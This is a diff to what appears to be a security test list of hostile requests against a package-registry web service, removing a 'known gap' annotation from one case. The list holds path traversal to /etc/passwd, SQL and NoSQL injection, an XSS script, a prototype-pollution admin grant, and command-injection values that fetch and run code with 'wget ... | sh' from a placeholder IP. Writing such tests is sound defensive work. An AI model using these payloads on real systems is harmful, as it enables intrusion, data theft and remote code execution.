@@ -105,7 +105,7 @@ export default {
     { target: '/-/static/..%2f..%2f..%2f..%2fetc%2fpasswd' },
     { target: `/-/v1/search?text=${encodeURIComponent("' UNION SELECT password FROM users-- ")}` },
     { target: `/-/web/detail/x?v=${encodeURIComponent('"><script>alert(1)</script>')}` },
-    { target: `/count-words?write=${encodeURIComponent('`wget http://203.0.113.7/x -O- | sh`')}`, known: 'a pipe in backticks reads as a quotation' },
+    { target: `/count-words?write=${encodeURIComponent('`wget http://203.0.113.7/x -O- | sh`')}` },
     { target: `/count-words?write=${encodeURIComponent('; wget http://203.0.113.7/x -O- | sh')}` },
     { method: 'PUT', target: '/-/user/org.couchdb.user:x', headers: { 'Content-Type': 'application/json' }, body: '{"name":{"$ne":null},"password":{"$gt":""},"constructor":{"prototype":{"admin":true}}}' },
   ],
